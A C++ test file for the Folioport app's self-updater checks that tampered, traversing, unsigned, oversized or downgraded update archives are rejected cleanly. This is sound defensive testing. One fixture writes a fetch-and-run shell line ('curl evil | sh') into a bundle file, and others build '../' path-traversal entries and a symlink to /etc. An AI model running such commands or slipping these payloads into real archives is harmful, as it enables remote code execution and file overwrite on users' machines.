// Updater::install() in this process against update archives served by the fake site: every attack and
// fault stops the installation with its message, leaves the installed bundle as it was and removes the
// work folder. The successful installation, which ends the process, is UpdateEndToEndTest's.
#include <QTest>
#include <QUuid>

#include <fcntl.h>
#include <sys/file.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <chrono>
#include <cstdlib>
#include <functional>
#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "FakeConfluence.h"
#include "TestBundle.h"
#include "updater/BundleSeal.h"
#include "updater/Checksum.h"
#include "updater/Ed25519.h"
#include "updater/Updater.h"

namespace folioport {
namespace {

using namespace testing;
using fake::FakeConfluence;
using Text = std::optional<std::string>;

constexpr const char* feedPath = "/folioport/appcast.json";
constexpr const char* archivePath = "/downloads/Folioport.zip";

/// "FolioportUpdate-" and a version 4 UUID in upper case.
bool isWorkFolderName(const std::string& name) {
    constexpr std::string_view prefix = "FolioportUpdate-";
    const std::string uuid = name.substr(std::min(name.size(), prefix.size()));
    const QUuid parsed(QString::fromStdString(uuid));
    return name.starts_with(prefix) && uuid.size() == 36 && uuid == upperCase(uuid) &&
           parsed.version() == QUuid::Random && parsed.variant() == QUuid::DCE;
}

class InstallTest : public ::testing::Test {
public:  // why: the table's rows are lambdas that build their archives through the fixture.
    void SetUp() override {
        // why: the work folder goes into the temporary directory; a private one shows what is left there.
        fs::create_directories(temporary);
        previousTemporary = std::getenv("TMPDIR") ? std::optional<std::string>(std::getenv("TMPDIR")) : std::nullopt;
        ::setenv("TMPDIR", temporary.c_str(), 1);
        writeBundle(installed, "1.0.1");
        sealBundle(installed, trustedSigningKey());
        auto started = FakeConfluence::start();
        ASSERT_TRUE(started) << started.error();
        site = std::move(*started);
    }
    void TearDown() override {
        if (previousTemporary) ::setenv("TMPDIR", previousTemporary->c_str(), 1);
        else ::unsetenv("TMPDIR");
    }

    UpdaterOptions options() {
        return {.runningVersion = [] { return std::string("1.0.1"); },
                .runningBuild = [] { return std::string("1.0.1"); },
                .installedBundle = [this] { return std::optional(installed); },
                .quit = [this] { ++quits; }};
    }
    /// A folder of its own for building one archive's contents.
    fs::path stage(const std::string& name) {
        const auto folder = scratch.path() / "stage" / name;
        fs::create_directories(folder);
        return folder;
    }
    /// The bundle of `version` at `bundle`, signed with `key`.
    static fs::path signedBundle(const fs::path& bundle, const std::string& version,
                                 const std::string& key = trustedSigningKey()) {
        writeBundle(bundle, version);
        sealBundle(bundle, key);
        return bundle;
    }
    /// Zips members of `folder` and returns the archive's bytes.
    static std::string zipped(const fs::path& folder, const std::vector<std::string>& members,
                              const std::vector<std::string>& options = {}) {
        const auto archive = folder.parent_path() / (folder.filename().string() + ".zip");
        zipFolder(archive, folder, members, options);
        return readFile(archive);
    }
    /// Serves a feed offering `version` and the archive, and lets a manual check find it.
    void offer(Updater& updater, const std::string& version, std::string archive, Text sha256,
               std::string url = {}, int archiveStatus = 200) {
        nlohmann::json feed = {{"version", version}, {"url", url.empty() ? site->baseURL() + archivePath : url}};
        if (sha256) feed["sha256"] = *sha256;
        site->serve(feedPath, {200, feed.dump(), "application/json"});
        site->serve(archivePath, {archiveStatus, std::move(archive)});
        updater.check(site->baseURL() + feedPath, true);
        ASSERT_TRUE(finishes(updater));
        ASSERT_TRUE(updater.available());
    }
    static bool finishes(const Updater& updater) {
        return QTest::qWaitFor([&] { return !updater.isChecking(); }, 10000);
    }
    /// Everything in the installation's folder, as the seal sees it.
    BundleSeal::Listing installedFolder() const { return *BundleSeal::list(installed.parent_path()); }
    bool workFolderLeft() const { return !fs::is_empty(temporary); }

    ScratchFolder scratch;
    fs::path temporary = scratch.path() / "tmp";
    fs::path installed = scratch.path() / "Applications" / "Folioport.app";
    std::optional<std::string> previousTemporary;
    std::unique_ptr<FakeConfluence> site;
    int quits = 0;
};

TEST_F(InstallTest, EveryAttackAndFaultStopsWithItsMessageAndLeavesNothingBehind) {
    enum class Reached { start, download, verification, installation };
    struct Row {
        const char* name;
        std::string version;  // in the feed
        std::function<std::string(InstallTest&, const fs::path& stage)> archive;
        std::function<Text(const std::string& archive)> sha256;
        std::function<std::string(InstallTest&, const fs::path& stage)> message;
        Reached reached = Reached::verification;
        std::string url = {};  // empty: the site's archive
        int archiveStatus = 200;
        UpdateLimits limits = {};
        std::chrono::milliseconds archiveDelay{0};
        std::string temporaryFolder = {};  // empty: the fixture's
        int othersMayWrite = 0;            // folders above the bundle that others may write to, this many up
    };
    /// A signed Folioport.app of `version` that `change` alters, zipped with the other `members` of its folder.
    const auto signedArchive = [](std::string version, std::function<void(const fs::path& bundle)> change = {},
                                  std::vector<std::string> members = {"Folioport.app"},
                                  std::vector<std::string> zipOptions = {}) {
        return [=](InstallTest& t, const fs::path& stage) {
            const auto bundle = t.signedBundle(stage / "Folioport.app", version);
            if (change) change(bundle);
            return t.zipped(stage, members, zipOptions);
        };
    };
    const auto noDigest = [](const std::string&) { return Text(); };
    const auto digestOf = [](const std::string& archive) { return Text(sha256Hex(archive)); };
    const auto says = [](std::string text) { return [text](InstallTest&, const fs::path&) { return text; }; };
    const std::string rejected = "Download rejected: not signed by the expected developer.\n";
    const auto unsafe = [](int up) {
        return [up](InstallTest& t, const fs::path&) {
            auto folder = t.installed;
            for (int level = 0; level < up; ++level) folder = folder.parent_path();
            return "Can't update: other users can write to " + fs::canonical(folder).string() +
                   ", so they could put a program of their own in place of the update. Take away their write "
                   "permission (chmod go-w) and try again.";
        };
    };
    const auto builtAs = [](std::string build) {
        return [build](InstallTest& t, const fs::path& stage) {
            writeBundle(stage / "Folioport.app", "9.9.9", build);
            sealBundle(stage / "Folioport.app", trustedSigningKey());
            return t.zipped(stage, {"Folioport.app"});
        };
    };
    const auto small = [](std::function<void(UpdateLimits&)> change) {
        UpdateLimits limits;
        change(limits);
        return limits;
    };

    const Row rows[] = {
        {"wrong digest", "9.9.9", signedArchive("9.9.9"), [](const std::string&) { return Text(std::string(64, 'a')); },
         says("Download rejected: checksum doesn't match the manifest.")},
        {"digest in upper case accepted; 1.3 promised, 1.3.0 delivered", "1.3", signedArchive("1.3.0"),
         [](const std::string& archive) { return Text(upperCase(sha256Hex(archive))); },
         says("Download rejected: bundle is v1.3.0, manifest promised v1.3.")},
        {"empty digest skipped", "9.9.9", signedArchive("9.9"), [](const std::string&) { return Text(""); },
         says("Download rejected: bundle is v9.9, manifest promised v9.9.9.")},
        {"bundle inside a folder", "9.9.9",
         [](InstallTest& t, const fs::path& stage) {
             t.signedBundle(stage / "Release/Folioport.app", "9.9.9");
             return t.zipped(stage, {"Release"});
         },
         digestOf, says("Download failed: no .app inside the archive")},
        {"two bundles: the first listed wins", "9.9.9",
         [](InstallTest& t, const fs::path& stage) {
             t.signedBundle(stage / "First.app", "7.7.7");
             t.signedBundle(stage / "Second.app", "8.8.8");
             return t.zipped(stage, {"First.app", "Second.app"});
         },
         noDigest,
         [](InstallTest&, const fs::path& stage) {
             // why: the order is the file system's (by name hash on ext4); the first bundle it lists counts.
             auto entry = fs::directory_iterator(stage);
             while (entry->path().extension() != ".app") ++entry;
             return "Download rejected: bundle is v" + std::string(entry->path().stem() == "First" ? "7.7.7" : "8.8.8") +
                    ", manifest promised v9.9.9.";
         }},
        {"entry with ../", "9.9.9",
         signedArchive("9.9.9", [](const fs::path& b) { writeFile(b.parent_path() / "evil", "x"); },
                       {"Folioport.app", "evil"}, {"-s", ",^evil$,../evil,"}),
         digestOf, says("Download failed: unsafe path in the archive (../evil)")},
        {"absolute entry", "9.9.9",
         [](InstallTest& t, const fs::path& stage) {
             t.signedBundle(stage / "Folioport.app", "9.9.9");
             writeFile(stage / "evil", "x");
             return t.zipped(stage, {"Folioport.app", (stage / "evil").string()}, {"-P"});
         },
         digestOf,
         [](InstallTest&, const fs::path& stage) {
             return "Download failed: unsafe path in the archive (" + (stage / "evil").string() + ")";
         }},
        {"symlink pointing outside the archive", "9.9.9",
         signedArchive("9.9.9", [](const fs::path& b) { fs::create_symlink("/etc", b / "Contents/etc"); }), digestOf,
         says("Download failed: symlink pointing outside the archive (Folioport.app/Contents/etc -> /etc)")},
        {"symlink out of the bundle into the archive's folder", "9.9.9",
         signedArchive("9.9.9",
                       [](const fs::path& b) {
                           writeFile(b.parent_path() / "notes", "x");
                           fs::create_symlink("../../../notes", b / "Contents/Resources/notes");
                       },
                       {"Folioport.app", "notes"}),
         digestOf, says(rejected + "symlink leaves the bundle: Contents/Resources/notes -> ../../../notes")},
        {"bundle that is a symlink to a signed one", "9.9.9",
         [](InstallTest& t, const fs::path& stage) {
             t.signedBundle(stage / "real/Folioport.app", "9.9.9");
             fs::create_symlink("real/Folioport.app", stage / "Folioport.app");
             return t.zipped(stage, {"Folioport.app", "real"});
         },
         digestOf, says(rejected + "not a bundle folder: Folioport.app")},
        {"unsigned bundle", "9.9.9",
         [](InstallTest& t, const fs::path& stage) {
             writeBundle(stage / "Folioport.app", "9.9.9");
             return t.zipped(stage, {"Folioport.app"});
         },
         digestOf, says(rejected + "not signed: no seal in Contents/Seal")},
        {"signed by another key, digest matching", "9.9.9",
         [](InstallTest& t, const fs::path& stage) {
             t.signedBundle(stage / "Folioport.app", "9.9.9", Ed25519::generatePrivateKey());
             return t.zipped(stage, {"Folioport.app"});
         },
         digestOf, says(rejected + "signature does not match the key of team Q7R2K9M4ZX")},
        {"one file changed after signing", "9.9.9",
         signedArchive("9.9.9",
                       [](const fs::path& b) { writeFile(b / "Contents/bin/Folioport", "#!/bin/sh\ncurl evil | sh\n"); }),
         digestOf, says(rejected + "modified: Contents/bin/Folioport")},
        {"unreadable Info.plist", "9.9.9",
         [](InstallTest& t, const fs::path& stage) {
             writeBundle(stage / "Folioport.app", "9.9.9");
             writeFile(stage / "Folioport.app/Contents/Info.plist", "<plist><array/></plist>");
             sealBundle(stage / "Folioport.app", trustedSigningKey());
             return t.zipped(stage, {"Folioport.app"});
         },
         digestOf, says("Download failed: unreadable Info.plist in the downloaded bundle")},
        {"not a zip archive", "9.9.9", says("PK\x03\x04" "broken"), noDigest,
         says("Download failed: could not unzip (Truncated ZIP file header)")},
        {"HTTP 404 for the archive", "9.9.9", signedArchive("9.9.9"), noDigest, says("Download failed: HTTP 404"),
         Reached::download, {}, 404},
        {"download address that does not parse", "9.9.9", signedArchive("9.9.9"), noDigest,
         says("Download failed: bad download URL"), Reached::download, "https://exa mple.invalid/x.zip"},
        {"unwritable installation folder, found before the download", "9.9.9", signedArchive("9.9.9"), digestOf,
         [](InstallTest& t, const fs::path&) {
             return "Can't replace " + t.installed.string() + " — no write permission.";
         },
         Reached::start},
        // Sizes and times from outside are bounded.
        {"archive larger than the download limit", "9.9.9", signedArchive("9.9.9"), noDigest,
         says("Download failed: the archive is larger than 1 KB"), Reached::download, {}, 200,
         small([](UpdateLimits& l) { l.archiveBytes = 1024; })},
        {"server slower than the low-speed limit", "9.9.9", signedArchive("9.9.9"), noDigest,
         says("Download failed: the server sent less than 1 KB a second for 1 second, or the download took "
              "longer than 30 minutes"),
         Reached::download, {}, 200, small([](UpdateLimits& l) { l.lowSpeedTime = std::chrono::seconds(1); }),
         std::chrono::milliseconds(3000)},
        {"small archive unpacking beyond the limit", "9.9.9",
         signedArchive("9.9.9", [](const fs::path& b) { writeFile(b / "Contents/Resources/zeros", std::string(3 << 20, '\0')); }),
         digestOf, says("Download failed: the archive unpacks to more than 1 MB"), Reached::verification, {}, 200,
         small([](UpdateLimits& l) { l.unpackedBytes = 1 << 20; })},
        {"seal manifest larger than its limit", "9.9.9", signedArchive("9.9.9"), digestOf,
         says(rejected + "larger than 64 bytes: Contents/Seal/manifest"), Reached::verification, {}, 200,
         small([](UpdateLimits& l) { l.manifestBytes = 64; })},
        // Entries that are the archive's own business to refuse.
        {"entry written through a symlink in the archive", "9.9.9",
         signedArchive("9.9.9",
                       [](const fs::path& b) {
                           fs::create_symlink("Resources", b / "Contents/link");
                           writeFile(b.parent_path() / "payload", "x");
                       },
                       {"Folioport.app", "payload"}, {"-s", ",^payload$,Folioport.app/Contents/link/payload,"}),
         digestOf, says("Download failed: entry through a symlink or a file in the archive (Folioport.app/Contents/link/payload)")},
        {"entry whose name the file system refuses, named as the archive names it", "9.9.9",
         signedArchive("9.9.9", [](const fs::path& b) { writeFile(b.parent_path() / "payload", "x"); },
                       {"Folioport.app", "payload"}, {"-s", ",^payload$,Folioport.app/" + std::string(300, 'n') + ","}),
         digestOf, says("Could not write Folioport.app/" + std::string(300, 'n') + ": File name too long.")},
        {"seal folder that is a symlink out of the bundle", "9.9.9",
         signedArchive("9.9.9",
                       [](const fs::path& b) {
                           fs::rename(b / "Contents/Seal", b.parent_path() / "seal");
                           fs::create_symlink("../../seal", b / "Contents/Seal");
                       },
                       {"Folioport.app", "seal"}),
         digestOf, says(rejected + "not signed: no seal in Contents/Seal")},
        {"read-only folder, then a rejection: the work folders still go", "9.9.9",
         signedArchive("9.9.9",
                       [](const fs::path& b) {
                           writeFile(b / "Contents/Resources/extra.txt", "");
                           fs::permissions(b / "Contents/Resources", fs::perms::owner_read | fs::perms::owner_exec);
                       }),
         digestOf, says(rejected + "added: Contents/Resources/extra.txt")},
        // The unsigned feed cannot choose an older build or a plain-text address.
        {"older build offered as a pre-release that sorts higher", "1.0.1-beta",
         [](InstallTest& t, const fs::path& stage) {
             writeBundle(stage / "Folioport.app", "1.0.1-beta", "1.0.0");
             sealBundle(stage / "Folioport.app", trustedSigningKey());
             return t.zipped(stage, {"Folioport.app"});
         },
         digestOf, says("Download rejected: the bundle's build 1.0.0 is not newer than the running build 1.0.1.")},
        {"build number with a pre-release suffix", "9.9.9", builtAs("1.0.2-beta"), digestOf,
         says("Download rejected: the bundle's build number 1.0.2-beta is not numbers separated by dots, such as 104 "
              "or 1.0.4.")},
        {"build number with letters inside", "9.9.9", builtAs("100rc1"), digestOf,
         says("Download rejected: the bundle's build number 100rc1 is not numbers separated by dots, such as 104 or "
              "1.0.4.")},
        // Another user who can write beside the bundle, or rename a folder above it, could swap the staging
        // folder for one of their own between verification and swap.
        {"folder of the bundle writable by others", "9.9.9", signedArchive("9.9.9"), digestOf, unsafe(1),
         Reached::start, {}, 200, {}, {}, {}, 1},
        {"folder above it writable by others, without the sticky bit", "9.9.9", signedArchive("9.9.9"), digestOf,
         unsafe(2), Reached::start, {}, 200, {}, {}, {}, 2},
        {"temporary folder that is a file", "9.9.9", signedArchive("9.9.9"), noDigest,
         [](InstallTest& t, const fs::path&) {
             return "Could not use the temporary folder " + (t.temporary / "file").string() + ": Not a directory.";
         },
         Reached::download, {}, 200, {}, {}, "file"},
        {"download address over plain http off the loopback address", "9.9.9", signedArchive("9.9.9"), noDigest,
         says("Download failed: the download address does not start with https://"), Reached::download,
         "http://updates.example.invalid/Folioport.zip"},
    };
    int index = 0;
    for (const Row& row : rows) {
        SCOPED_TRACE(row.name);
        const auto folder = stage(std::to_string(index++));
        const std::string archive = row.archive(*this, folder);
        const std::string expected = row.message(*this, folder);
        const auto before = installedFolder();
        UpdaterOptions limited = options();
        limited.limits = row.limits;
        Updater updater(limited);
        offer(updater, row.version, archive, row.sha256(archive), row.url, row.archiveStatus);
        site->setLatency(row.archiveDelay, archivePath);
        std::vector<Text> statuses;
        QObject::connect(&updater, &Updater::statusChanged, [&] { statuses.push_back(updater.status()); });
        if (!row.temporaryFolder.empty()) {
            writeFile(temporary / row.temporaryFolder, "");
            ::setenv("TMPDIR", (temporary / row.temporaryFolder).c_str(), 1);
        }
        auto loosened = installed;
        for (int level = 0; level < row.othersMayWrite; ++level) loosened = loosened.parent_path();
        if (row.othersMayWrite) fs::permissions(loosened, fs::perms::others_write, fs::perm_options::add);
        {
            const auto locked = row.reached == Reached::start && !row.othersMayWrite
                                    ? std::make_unique<UnwritableFolder>(installed.parent_path())
                                    : nullptr;
            updater.install();
            ASSERT_TRUE(finishes(updater));
        }
        if (row.othersMayWrite) fs::permissions(loosened, fs::perms::others_write, fs::perm_options::remove);
        if (!row.temporaryFolder.empty()) {
            ::setenv("TMPDIR", temporary.c_str(), 1);
            fs::remove(temporary / row.temporaryFolder);
        }

        EXPECT_EQ(updater.errorMessage(), expected);
        std::vector<Text> expectedStatuses;
        if (row.reached >= Reached::download) expectedStatuses = {"Downloading v" + row.version + "…"};
        if (row.reached >= Reached::verification) expectedStatuses.push_back("Verifying…");
        if (row.reached >= Reached::installation) expectedStatuses.push_back("Installing…");
        if (row.reached >= Reached::download) expectedStatuses.push_back(std::nullopt);
        EXPECT_EQ(statuses, expectedStatuses);
        EXPECT_EQ(installedFolder(), before);
        EXPECT_FALSE(workFolderLeft());
        EXPECT_TRUE(updater.available());
        EXPECT_EQ(quits, 0);
    }
}

// A package's copy is marked in its Info.plist (root may write anywhere, so the mark alone must be enough);
// a copy in a folder the user cannot write cannot replace itself either. Neither checks on its own, and a
// package's copy refuses to install what a manual check found.
TEST_F(InstallTest, APackagedOrUnwritableCopyLeavesUpdatesToThePackageManager) {
    const auto packaged = scratch.path() / "lib" / "Folioport.app";
    writeBundle(packaged, "1.0.1");
    std::string plist = readFile(packaged / "Contents/Info.plist");
    plist.insert(plist.find("</dict>"), "\t<key>FolioportUpdatedBy</key>\n\t<string>package manager</string>\n");
    writeFile(packaged / "Contents/Info.plist", plist);
    const auto locked = scratch.path() / "locked";
    writeBundle(locked / "Folioport.app", "1.0.1");
    const UnwritableFolder unwritable(locked);
    site->serve(feedPath, {200, R"({"version":"9.9.9","url":")" + site->baseURL() + archivePath + R"("})", "application/json"});

    struct Row {
        const char* name;
        fs::path bundle;
        bool managed;
    };
    for (const Row& row : {Row{"installed by the user", installed, false}, Row{"installed by a package", packaged, true},
                           Row{"in a folder the user cannot write", locked / "Folioport.app", true}}) {
        SCOPED_TRACE(row.name);
        UpdaterOptions rowOptions = options();
        rowOptions.installedBundle = [&row] { return std::optional(row.bundle); };
        rowOptions.launchDelay = std::chrono::milliseconds(0);
        Updater updater(rowOptions);
        EXPECT_EQ(updater.updatesThroughPackageManager(), row.managed);
        site->clearRequests();
        updater.start(site->baseURL() + feedPath, true);
        QTest::qWait(200);
        EXPECT_EQ(site->requests().empty(), row.managed) << "the automatic check at launch";
        ASSERT_TRUE(finishes(updater));
        if (row.bundle == packaged) {
            updater.check(site->baseURL() + feedPath, true);
            ASSERT_TRUE(finishes(updater));
            site->clearRequests();
            updater.install();
            EXPECT_EQ(updater.errorMessage(), Updater::packageManagerSentence);
            EXPECT_TRUE(site->requests().empty());
        }
    }
}

TEST_F(InstallTest, OnlyAnInstalledCopyInstallsAndOnlyOnceAtATime) {
    const auto folder = stage("once");
    signedBundle(folder / "Folioport.app", "9.9");
    const std::string archive = zipped(folder, {"Folioport.app"});

    UpdaterOptions outside = options();
    outside.installedBundle = [] { return std::optional<fs::path>(); };
    Updater stray(outside);
    offer(stray, "9.9.9", archive, std::nullopt);
    site->clearRequests();
    stray.install();
    EXPECT_FALSE(stray.isChecking());
    EXPECT_EQ(stray.errorMessage(),
              "This copy of Folioport does not run from an installed Folioport.app, so it cannot update itself.");
    EXPECT_TRUE(site->requests().empty());

    Updater updater(options());
    offer(updater, "9.9.9", archive, std::nullopt);
    site->setLatency(std::chrono::milliseconds(300));
    std::vector<Text> statuses;
    QObject::connect(&updater, &Updater::statusChanged, [&] { statuses.push_back(updater.status()); });
    updater.install();
    // The work folders while it downloads: private, named alike, one in the temporary folder, one beside the bundle.
    ASSERT_EQ(std::distance(fs::directory_iterator(temporary), fs::directory_iterator()), 1);
    const auto work = fs::directory_iterator(temporary)->path();
    EXPECT_TRUE(isWorkFolderName(work.filename().string())) << work;
    EXPECT_EQ(fs::status(work).permissions(), fs::perms::owner_all);
    EXPECT_EQ(fs::status(installed.parent_path() / ("." + work.filename().string())).permissions(), fs::perms::owner_all);
    updater.install();
    updater.check(site->baseURL() + feedPath, true);
    ASSERT_TRUE(finishes(updater));
    EXPECT_EQ(statuses, (std::vector<Text>{"Downloading v9.9.9…", "Verifying…", std::nullopt}));
    EXPECT_EQ(std::ranges::count(site->requests(), std::string(archivePath), &fake::LoggedRequest::path), 1);
    EXPECT_EQ(updater.errorMessage(), "Download rejected: bundle is v9.9, manifest promised v9.9.9.");
}

// The copy that a swap which gave up starts shows why beside the offer, and the launch check does not clear it
// at once; staging folders that a killed update left go, the one an update holds stays.
TEST_F(InstallTest, TheNextStartTakesUpWhatAnEarlierUpdateLeft) {
    const auto folder = installed.parent_path();
    writeFile(folder / ".Folioport.app.update-failed",
              "could not remove the backup " + installed.string() + ".old (Permission denied)\n" +
                  R"({"version":"9.9.9","url":"https://example.com/9.9.9.zip"})");
    const auto stale = folder / ".FolioportUpdate-STALE";
    fs::create_directories(stale / "Folioport.app/Contents");
    fs::permissions(stale / "Folioport.app/Contents", fs::perms::owner_read | fs::perms::owner_exec);
    const auto held = folder / ".FolioportUpdate-HELD";
    fs::create_directories(held);
    const int holder = ::open(held.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    ASSERT_EQ(::flock(holder, LOCK_EX), 0);

    UpdaterOptions soon = options();
    soon.launchDelay = std::chrono::milliseconds(0);
    Updater updater(soon);
    ASSERT_TRUE(updater.available());
    EXPECT_EQ(updater.available()->version, "9.9.9");
    EXPECT_EQ(updater.available()->url, "https://example.com/9.9.9.zip");
    const std::string reason = "The update was not installed: could not remove the backup " + installed.string() +
                               ".old (Permission denied).";
    EXPECT_EQ(updater.errorMessage(), reason);
    EXPECT_FALSE(fs::exists(folder / ".Folioport.app.update-failed"));
    updater.start(site->baseURL() + feedPath, true);
    EXPECT_TRUE(QTest::qWaitFor([&] { return !fs::exists(stale); }, 5000));
    QTest::qWait(100);
    EXPECT_EQ(updater.errorMessage(), reason);
    EXPECT_TRUE(fs::exists(held));
    ::close(holder);
    EXPECT_TRUE(Updater(options()).available() == std::nullopt) << "the note is read once";
}

}  // namespace
}  // namespace folioport
